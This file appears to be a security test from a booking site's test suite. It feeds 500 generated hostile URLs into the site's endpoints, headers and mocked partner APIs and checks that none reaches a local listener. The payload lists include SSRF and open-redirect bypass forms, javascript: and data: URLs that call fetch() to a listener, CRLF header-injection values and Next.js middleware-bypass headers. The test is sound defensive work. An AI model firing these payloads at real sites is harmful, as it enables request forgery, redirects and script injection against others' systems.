// R21: 500 hostile addresses wherever the site takes one or is given one; somebody listens at the end of each of them.
import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import { freePorts } from "@/scripts/support/ports.mjs";
import { type Chance, chanceOf } from "../support/chance";
import { fillData } from "../support/filled-data.mjs";
import { TERMS } from "../support/own-stack";
import { siteCommand, type TaxiClient, taxiToken } from "../support/site-command";
import { type Drill, type Figure, none } from "./drill";
import { type Listener, listen } from "./listener";
import { CITY_SEARCH, twoStays } from "./pages";
import { hire, PASSWORD, signIn, signInForm, untilCommanded } from "./people";
import { type Call, makeStand } from "./stand";

/** Names and numbers of this machine, as parsers of addresses read them. */
const HOSTS = [
  "127.0.0.1",
  "localhost",
  "LOCALHOST",
  "2130706433",
  "0x7f000001",
  "017700000001",
  "127.1",
  "0177.0.0.1",
  "0x7f.0.0x0.1",
  "127.0.0.1.",
  "0.0.0.0",
  "[::1]",
  "[::ffff:127.0.0.1]",
  "[::ffff:7f00:1]",
  "[0:0:0:0:0:0:0:1]",
  "127%2e0%2e0%2e1",
  "127\u30020\u30020\u30021",
  "\u2460\u2461\u2466.0.0.1",
  "\uff4cocalhost",
  "booking.com.localhost",
  "www.booking.com.rebind.localhost",
] as const;

/** `at`: host and port of the listener. */
const FORMS: readonly ((at: string, chance: Chance) => string)[] = [
  (at) => `http://${at}/in`,
  (at) => `https://${at}/in`,
  (at) => `HtTpS://${at}/in`,
  (at) => `ws://${at}/in`,
  (at) => `ftp://${at}/in`,
  (at) => `gopher://${at}/_GET`,
  (at) => `http:/${at}/in`,
  (at) => `https:${at}/in`,
  (at) => `http:\\\\${at}\\in`,
  (at) => `http:///${at}/in`,
  (at) => `//${at}/in`,
  (at) => `///${at}/in`,
  (at) => `/\\${at}/in`,
  (at) => `\\\\${at}\\in`,
  (at) => `\\/${at}/in`,
  (at) => `/\t/${at}/in`,
  (at) => `/\n/${at}/in`,
  (at) => `\t//${at}/in`,
  (at) => ` http://${at}/in`,
  (at) => `ht\ntp://${at}/in`,
  (at) => `http://\t${at}/in`,
  (at) => `http://user@${at}/in`,
  (at) => `https://user:word@${at}/in`,
  (at) => `https://www.booking.com@${at}/in`,
  (at) => `https://www.booking.com:443@${at}/in`,
  (at) => `https://www.booking.com%2f@${at}/in`,
  (at) => `https://www.booking.com%00@${at}/in`,
  (at) => `https://${at}\\@www.booking.com/in`,
  (at) => `https://${at}#@www.booking.com/in`,
  (at) => `https://${at}?.booking.com/in`,
  (at) => `https://${at}/.booking.com/in`,
  (at) => `https://${at};.booking.com/in`,
  (at) => `/en/..//${at}/in`,
  (at) => `/staff/..//${at}/in`,
  (at) => `/staff/../\\${at}/in`,
  (at) => `/staff//${at}/in`,
  (at) => `/staff/%2e%2e//${at}/in`,
  (at) => `/en/.//${at}/in`,
  (at) => `/./\\${at}/in`,
  (at) => `/%2f%2f${at}/in`,
  (at) => `/%5c${at}/in`,
  (at) => `/staff@${at}/in`,
  (at) => `/staff?next=//${at}/in`,
  (at) => `.${at}/in`,
  (at) => `@${at}/in`,
  (at) => `:${at}/in`,
  // Short enough for the request that holds one seven times: it has 16 KB for address and headers.
  (at, { below }) => `http://${at}/${"a".repeat(500 + below(1_500))}`,
  (at, { below }) => `//${at}/${"%2e%2e/".repeat(50 + below(200))}`,
  (at) => `javascript:fetch('http://${at}/in')//`,
  (at) => `JaVaScRiPt:fetch('http://${at}/in')`,
  (at) => `java\nscript:fetch('http://${at}/in')`,
  (at) => `\u0001javascript:fetch('http://${at}/in')`,
  (at) => `vbscript:MsgBox("${at}")`,
  (at) => `data:text/html,<script src=//${at}/in></script>`,
  (at) => `data:text/html;base64,${Buffer.from(`<script src=//${at}/in></script>`).toString("base64")}`,
  (at) => `data:image/svg+xml,<svg onload=fetch('//${at}/in')>`,
  (at) => `file:////${at}/in`,
  (at) => `blob:http://${at}/in`,
  (at) => `view-source:http://${at}/in`,
  (at) => `intent://${at}/in#Intent;scheme=http;end`,
  (at) => `http://${at}/in\r\nLocation: http://${at}/split`,
  (at) => `"><meta http-equiv=refresh content="0;url=http://${at}/in">`,
  (at) => `"><base href="http://${at}/">`,
];

function addressesOf(count: number, ports: readonly [number, number], chance: Chance): string[] {
  const shift = chance.below(HOSTS.length);
  return Array.from({ length: count }, (_, index) => {
    const form = FORMS[index % FORMS.length] ?? FORMS[0];
    const host = HOSTS[(index + shift + Math.floor(index / FORMS.length)) % HOSTS.length];
    return form?.(`${host}:${ports[chance.below(2)]}`, chance) ?? "";
  });
}

/** As browsers read it (the URL standard): leads to a listener, or runs what it holds. */
function isHostile(text: string, base: string, { ports }: Listener): boolean {
  if (!URL.canParse(text, base)) return false;
  const url = new URL(text, base);
  if (/^(javascript|vbscript|file|blob|view-source|intent):$/.test(url.protocol)) return true;
  if (url.protocol === "data:") return !/^data:(image\/(png|gif|jpeg|webp|avif)|font)/i.test(url.href);
  return ports.some((port) => url.port === String(port));
}

const ENTITIES: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" };
const decoded = (text: string): string =>
  text.replace(/&(?:#x([0-9a-f]+)|#(\d+)|(\w+));/gi, (all, hex, decimal, name) => {
    if (hex) return String.fromCodePoint(Number.parseInt(hex, 16));
    return decimal ? String.fromCodePoint(Number(decimal)) : (ENTITIES[name] ?? all);
  });

const TAG = /<[a-z](?:"[^"]*"|'[^']*'|[^>"'])*>/gi;
const ATTRIBUTE = /\s([^\s=>]+)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))/g;
const FOLLOWED = /^(href|src|srcset|action|formaction|poster|data|ping|cite|background|manifest|content)$/i;
const FIELD =
  /"(\w*(?:url|href|src|link|thumbnail|standard|large|location|target|web|app))":("(?:[^"\\]|\\.)*")/gi;

function inAttribute(name: string, value: string): string[] {
  if (name === "srcset") return value.split(",").map((part) => part.trim().split(/\s/)[0] ?? "");
  if (name === "content") return [/^\s*\d+\s*;\s*url=(.*)$/i.exec(value)?.[1] ?? ""];
  return [value];
}

/** Fields of JSON whose name says that somebody will follow them. */
function inFields(text: string): string[] {
  return [...text.matchAll(FIELD)].flatMap(([, , value = '""']) => {
    try {
      return [JSON.parse(value) as string];
    } catch {
      // No string of JSON after all.
      return [];
    }
  });
}

/** Addresses that a browser would follow, load or offer: of attributes, and of what scripts are given. */
function addressesIn(body: string): string[] {
  // A tag's attributes one after the other: what stands quoted inside one is no attribute of its own.
  const attributes = (body.match(TAG) ?? [])
    .flatMap((tag) => [...tag.matchAll(ATTRIBUTE)])
    .filter(([, name = ""]) => FOLLOWED.test(name))
    .flatMap(([, name = "", double, single, bare]) =>
      inAttribute(name, decoded(double ?? single ?? bare ?? "")),
    );
  const payloads = [...body.matchAll(/__next_f\.push\(\[1,("(?:[^"\\]|\\.)*")\]\)/g)];
  const flight = payloads.map(([, text = '""']) => JSON.parse(text) as string).join("");
  const isJson = body.startsWith("{") || body.startsWith("[");
  return [...attributes, ...inFields(flight), ...(isJson ? inFields(body) : [])].filter(
    (text) => text !== "",
  );
}

interface Answer {
  status: number;
  head: string;
  body: string;
}

interface Asked {
  method?: "GET" | "POST";
  target: string;
  headers?: Record<string, string>;
  body?: string;
}

/** As bytes: no library tidies the target or a header up. HTTP/1.0, so that the answer is not sent in chunks. */
function ask(origin: string, { method = "GET", target, headers = {}, body = "" }: Asked): Promise<Answer> {
  const { host, port } = new URL(origin);
  const lines = Object.entries({ host, ...headers }).map(([name, value]) => `${name}: ${value}\r\n`);
  const length = method === "POST" ? `content-length: ${Buffer.byteLength(body)}\r\n` : "";
  const text = Buffer.from(`${method} ${target} HTTP/1.0\r\n${lines.join("")}${length}\r\n${body}`);
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    const socket = connect(Number(port), "127.0.0.1", () => socket.write(text));
    socket.setTimeout(60_000, () => socket.destroy());
    socket.on("data", (chunk) => chunks.push(chunk));
    socket.on("error", () => {});
    socket.on("close", () => {
      const told = Buffer.concat(chunks).toString("utf8");
      const end = told.indexOf("\r\n\r\n");
      const head = end < 0 ? told : told.slice(0, end);
      resolve({ status: Number(/^HTTP\/1\.\d (\d+)/.exec(head)?.[1] ?? 0), head, body: told.slice(end + 4) });
    });
  });
}

/** What of an answer leads to a listener. */
function leadsIn({ head, body }: Answer, base: string, listener: Listener): string[] {
  const leads: string[] = [];
  for (const line of head.split("\r\n").slice(1)) {
    const [, name = "", value = ""] = /^([^:]+):\s*(.*)$/.exec(line) ?? [];
    const listed = name === "link" ? [...value.matchAll(/<([^>]*)>/g)].map(([, one = ""]) => one) : [value];
    const isAddress = /^(location|content-location|link)$/.test(name);
    if (isAddress && listed.some((one) => isHostile(one, base, listener))) leads.push(line);
    const isPolicy = /^(refresh|content-security-policy|access-control-allow-origin|set-cookie)$/.test(name);
    const mayHold = name === "set-cookie" ? (/domain=[^;]*/i.exec(value)?.[0] ?? "") : value;
    if (isPolicy && listener.ports.some((port) => mayHold.includes(String(port)))) leads.push(line);
  }
  return [...leads, ...addressesIn(body).filter((one) => isHostile(one, base, listener))];
}

const enc = encodeURIComponent;
/** A line break would begin another header: that is the client's own doing. */
const inHeader = (address: string): string => Buffer.from(address.replace(/[\r\n]/g, "")).toString("latin1");
const inTarget = (address: string): string => address.replace(/[\r\n]/g, "");
const authority = (address: string): string =>
  /([^/\\@\s]+:\d{4,5})/.exec(address)?.[1]?.replace(/^.*[/\\@]/, "") ?? "127.0.0.1";

interface Cookies {
  form: { cookie: string; csrfToken: string };
  admin: string;
}

/** Every place that takes an address, or that some framework takes one from. */
function placesFor(address: string, index: number, origin: string, { form, admin }: Cookies): Asked[] {
  const a = enc(address);
  const own = { origin, "content-type": "application/x-www-form-urlencoded" };
  const json = { origin, "content-type": "application/json" };
  const around = ["/", "/en", "/staff", "/sitemap.xml", "/robots.txt", "/en/settings", "/api/auth/signin"];
  const path = around[index % around.length] ?? "/";
  const header = inHeader(address);
  const at = inHeader(authority(address));
  const signIn = { email: "admin@staff.example", password: PASSWORD, csrfToken: form.csrfToken };
  return [
    { target: `/staff/sign-in?next=${a}` },
    { target: `/staff/sign-in?next=${a}&callbackUrl=${a}&error=${a}`, headers: { cookie: admin } },
    { target: `/api/auth/signin?callbackUrl=${a}` },
    { target: `/api/auth/error?error=${a}&callbackUrl=${a}` },
    { target: `/api/auth/callback/oidc?callbackUrl=${a}&state=${a}&code=${a}&iss=${a}` },
    {
      method: "POST",
      target: `/api/auth/signout?callbackUrl=${a}`,
      headers: { ...own, cookie: form.cookie },
      body: `csrfToken=${form.csrfToken}&callbackUrl=${a}`,
    },
    // Each sign-in hashes a password: one of eight.
    ...(index % 8 === 0
      ? [
          {
            method: "POST" as const,
            target: "/api/auth/callback/credentials",
            headers: { ...own, cookie: `${form.cookie}; staff.sign-in-target=${a}` },
            body: new URLSearchParams({ ...signIn, callbackUrl: address }).toString(),
          },
        ]
      : []),
    { target: `/en/settings?back=${a}` },
    { target: "/en/settings", headers: { referer: header } },
    { method: "POST", target: "/api/preferences", headers: own, body: `units=metric&back=${a}` },
    {
      method: "POST",
      target: "/api/preferences",
      headers: { ...own, referer: header },
      body: "units=metric",
    },
    { method: "POST", target: "/api/preferences", headers: { ...own, origin: header }, body: `back=${a}` },
    {
      method: "POST",
      target: "/api/shared",
      headers: json,
      body: JSON.stringify({ name: address.slice(0, 60), items: [{ id: 10004, url: address }] }),
    },
    { target: `/en/shared/${a}` },
    { target: `/_next/image?url=${a}&w=64&q=75` },
    { target: `/en/search?to=${a}&next=${a}&url=${a}&back=${a}` },
    { target: `/en/stays/10004/go?${TERMS}&url=${a}&product=${a}&back=${a}` },
    { target: `/en/stays/10004/print?${TERMS}&back=${a}` },
    { target: inTarget(address) },
    { target: `/${inTarget(address)}` },
    { target: `/en/${inTarget(address)}/` },
    { target: path, headers: { host: at } },
    {
      target: path,
      headers: {
        "x-forwarded-host": at,
        "x-forwarded-server": at,
        "x-host": at,
        forwarded: `host="${at}";proto=http`,
        "x-forwarded-proto": "http",
        "x-original-url": header,
        "x-rewrite-url": header,
        "x-forwarded-uri": header,
      },
    },
    {
      target: path,
      headers: {
        "x-middleware-rewrite": header,
        "x-middleware-redirect": header,
        "x-nextjs-rewrite": header,
        "x-nextjs-redirect": header,
        "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy",
        "x-invoke-path": header,
        "x-matched-path": header,
        "x-now-route-matches": header,
      },
    },
    {
      method: "POST",
      target: "/en",
      headers: {
        ...own,
        "next-action": "0".repeat(40),
        host: at,
        "x-forwarded-host": at,
        origin: `http://${at}`,
      },
      body: `0=${a}`,
    },
    { target: "/en", headers: { rsc: "1", "next-url": header, "next-router-state-tree": a } },
    { target: `/staff/account?missing=${a}`, headers: { cookie: admin } },
    { target: `/staff/console?operation=${a}&body=${a}&find=${a}`, headers: { cookie: admin } },
    {
      method: "POST",
      target: "/api/staff/views",
      headers: { ...json, cookie: admin },
      body: JSON.stringify({
        action: "save",
        page: "inventory",
        name: `${index} ${address.slice(0, 40).replace(/\p{Cc}/gu, "")}`,
        query: address,
      }),
    },
    {
      method: "POST",
      target: `/oauth2/token?redirect_uri=${a}`,
      headers: own,
      body: `grant_type=client_credentials&resource=${a}&redirect_uri=${a}&client_id=${a}&client_secret=x`,
    },
  ];
}

const LOOKS_LIKE_ADDRESS = /^[a-z][a-z.+-]*:\/\//i;

/** Every address of an answer is this one; where a next page could be named, it is named so. */
function poisoned(value: unknown, address: string): unknown {
  if (typeof value === "string") return LOOKS_LIKE_ADDRESS.test(value) ? address : value;
  if (Array.isArray(value)) return value.map((one) => poisoned(one, address));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, poisoned(one, address)]));
}

const leading = (address: string) => {
  const clean = address.replace(/[^\x21-\x7e]/g, (letter) => (letter.charCodeAt(0) > 127 ? enc(letter) : ""));
  return {
    location: clean,
    link: `<${clean}>; rel="next"`,
    refresh: `0; url=${clean}`,
    "content-location": clean,
  };
};

const REDIRECTS = [301, 302, 303, 307, 308];

interface Poison {
  address: string;
  isRedirect: boolean;
  /** It is the next page as well; an answer that names such a one may be refused whole. */
  isNext: boolean;
  /** Answers that carried it. */
  answers: number;
}

async function poison({ truth, response }: Call, current: Poison): Promise<void> {
  current.answers += 1;
  const { address, isRedirect, isNext } = current;
  if (isRedirect) {
    const status = REDIRECTS[current.answers % REDIRECTS.length] ?? 302;
    response.writeHead(status, leading(address)).end();
    return;
  }
  const { status, body } = await truth();
  const told = poisoned(JSON.parse(body.toString("utf8")), address) as Record<string, unknown>;
  const metadata = { ...(told.metadata as object | undefined), next_page: address };
  response.writeHead(status, { "content-type": "application/json", ...leading(address) });
  response.end(JSON.stringify(isNext ? { ...told, metadata } : told));
}

/** A taxi platform that sends whoever asks to an address: as a redirect, as the next page, in every text. */
async function taxiPlatform(port: number, addresses: readonly string[]) {
  let asked = 0;
  const server = createServer((request, response) => {
    const address = addresses[asked % addresses.length] ?? "";
    const headers = { "content-type": "application/json", ...leading(address) };
    asked += 1;
    if (asked % 3 === 0) return void response.writeHead(REDIRECTS[asked % 5] ?? 302, headers).end();
    const isToken = request.url?.includes("/oauth2/token");
    const body = isToken
      ? { access_token: "drill", token_type: "Bearer", expires_in: 1, refresh_uri: address }
      : { data: [], bookings: [], links: { next: { href: address } }, next: address, next_page: address };
    response.writeHead(200, headers).end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", () => resolve()));
  return { asked: () => asked, close: () => server.close() };
}

const delivery = (reference: string, address: string) => ({
  bookingReference: reference,
  customerReference: address.slice(0, 100),
  leadPassenger: {
    title: "Ms",
    firstName: address,
    lastName: address,
    phoneNumber: "+442079460123",
    customerId: address,
  },
  comment: address,
  flightNumber: address.slice(0, 20),
  services: [{ name: "meetAndGreetMessage", value: address }],
});

/** A few at a time, in order. */
async function each<T>(all: readonly T[], atOnce: number, work: (one: T, index: number) => Promise<void>) {
  let next = 0;
  const worker = async () => {
    for (let at = next++; at < all.length; at = next++) await work(all[at] as T, at);
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
}

async function provedToListen(listener: Listener): Promise<void> {
  for (const port of listener.ports)
    for (const host of ["127.0.0.1", "::1"])
      await new Promise((resolve) =>
        connect(port, host, () => resolve(null))
          .on("error", resolve)
          .end(),
      );
  for (let waited = 0; listener.heard().length < 4 && waited < 100; waited += 1) await pause(20);
  if (listener.heard().length < 3) throw new Error("the listener does not hear who connects");
  listener.forget();
}

export const drill: Drill = {
  id: "R21",
  name: "hostile-addresses",
  promise: "Whatever address it is given, the site connects to none and leads no browser there.",
  needs: ["build"],
  async run({ isQuick, seed, say }): Promise<Figure[]> {
    const listener = await listen();
    await provedToListen(listener);
    const addresses = addressesOf(isQuick ? FORMS.length : 500, listener.ports, chanceOf(seed));
    const [taxiPort = 0] = await freePorts(1);
    const taxi = await taxiPlatform(taxiPort, addresses);
    const data = mkdtempSync(join(tmpdir(), "roomward-drill-"));
    await fillData(data);
    const stand = await makeStand({
      sites: [
        // A platform that is not our own sandbox: what such a one may lead to is less.
        (front, origin) => ({
          DEMAND_API_URL: `${front}/3.2`,
          DEMAND_API_TOKEN: "sandbox-token",
          DEMAND_AFFILIATE_ID: "100000",
          DEMAND_CALLS_PER_MINUTE: "1000000",
          SITE_ORIGIN: origin,
          CLOCK: "",
          DATA_DIR: data,
          HANDOFF_HOSTS: "booking.com",
          TAXI_API_URL: `http://127.0.0.1:${taxiPort}/api`,
          TAXI_AUTH_URL: `http://127.0.0.1:${taxiPort}/auth`,
          TAXI_CLIENT_ID: "drill",
          TAXI_CLIENT_SECRET: "drill-secret",
          TAXI_POLL_SECONDS: "1",
        }),
      ],
    });
    const led: string[] = [];
    const failed: string[] = [];
    let [asked, unpoisoned] = [0, 0];
    const origin = stand.sites[0]?.origin ?? "";
    const judge = async (what: Asked, address: string) => {
      asked += 1;
      const answer = await ask(origin, what);
      const where = `${what.method ?? "GET"} ${what.target.slice(0, 80)} for ${JSON.stringify(address.slice(0, 80))}`;
      const lead = leadsIn(answer, `${origin}${what.target.startsWith("/") ? "/en/" : "/"}`, listener)[0];
      if (lead !== undefined) led.push(`${where}: ${lead.slice(0, 160)}`);
      if (answer.status === 0 || answer.status === 500) failed.push(`${where}: ${answer.status}`);
    };
    try {
      await untilCommanded(data);
      await hire(data, "admin");
      const cookies = { form: await signInForm(origin), admin: await signIn(origin, "admin@staff.example") };
      const ids = await twoStays(origin);
      const client = await siteCommand<TaxiClient>(data, "taxi.client.ensure", { name: "drill" });
      const token = await taxiToken(origin, client);
      for (const [index, address] of addresses.entries()) {
        const body = JSON.stringify(delivery(`R21-${index}`, address));
        const headers = { authorization: token, "content-type": "application/json" };
        await judge({ method: "POST", target: "/v2/bookings", headers, body }, address);
      }
      const desk = [
        "/staff/taxi",
        "/staff/taxi/board",
        "/staff/taxi?tab=parked",
        "/staff/inventory",
        "/staff/audit",
      ];
      for (const target of desk) await judge({ target, headers: { cookie: cookies.admin } }, "(all)");

      const current: Poison = { address: "", isRedirect: false, isNext: false, answers: 0 };
      stand.spoil((call) => poison(call, current));
      for (const [index, address] of addresses.entries()) {
        Object.assign(current, { address, isRedirect: index % 7 === 6, isNext: index % 7 === 5, answers: 0 });
        // A stay of its own for each address: nothing of it lies in memory yet.
        const stay = 10_000 + index;
        const dates = TERMS.replace("2027-03-08", `2027-03-${String(7 + (index % 20)).padStart(2, "0")}`);
        for (const target of [
          `/en/stays/${stay}?${dates}`,
          `/en/stays/${stay}/go?${dates}`,
          `/api/stays/${stay}?locale=en`,
          `/en/stays/${stay}/print?${dates}`,
        ])
          await judge({ target }, address);
        if (current.answers === 0) unpoisoned += 1;
      }
      for (const target of [
        CITY_SEARCH,
        `/en/compare?stays=${ids[0]},${ids[1]}&${TERMS}`,
        "/en/search?to=country:nl",
      ])
        await judge({ target }, "(all)");
      for (const stay of [10_000, 10_001, 10_007])
        for (const target of [`/staff/inventory/${stay}`, `/staff/parity?ids=${stay}`, "/staff/content"])
          await judge({ target, headers: { cookie: cookies.admin } }, "(all)");
      say(`the platform, its deliveries and every page of theirs: ${led.length} lead to the listener`);

      stand.spoil(null);
      await each(addresses, 6, async (address, index) => {
        for (const what of placesFor(address, index, origin, cookies)) await judge(what, address);
      });
      say(`${asked} requests that name an address, ${listener.heard().length} connections`);
      // Whatever was begun meanwhile, such as a look at the platform's list, is over.
      await pause(2_000);
    } finally {
      await stand.stop();
      taxi.close();
      rmSync(data, { recursive: true, force: true });
    }
    listener.close();
    for (const line of [...listener.heard(), ...led.slice(0, 12), ...failed.slice(0, 12)]) say(line);
    say(`the taxi platform was asked ${taxi.asked()} times`);
    return [
      none(`connections to the listener, under ${addresses.length} addresses`, listener.heard().length),
      none(`answers of ${asked} that lead a browser there`, led.length),
      none("answers without a status, or 500", failed.length),
      none("addresses that no answer of the platform carried", unpoisoned),
    ];
  },
};
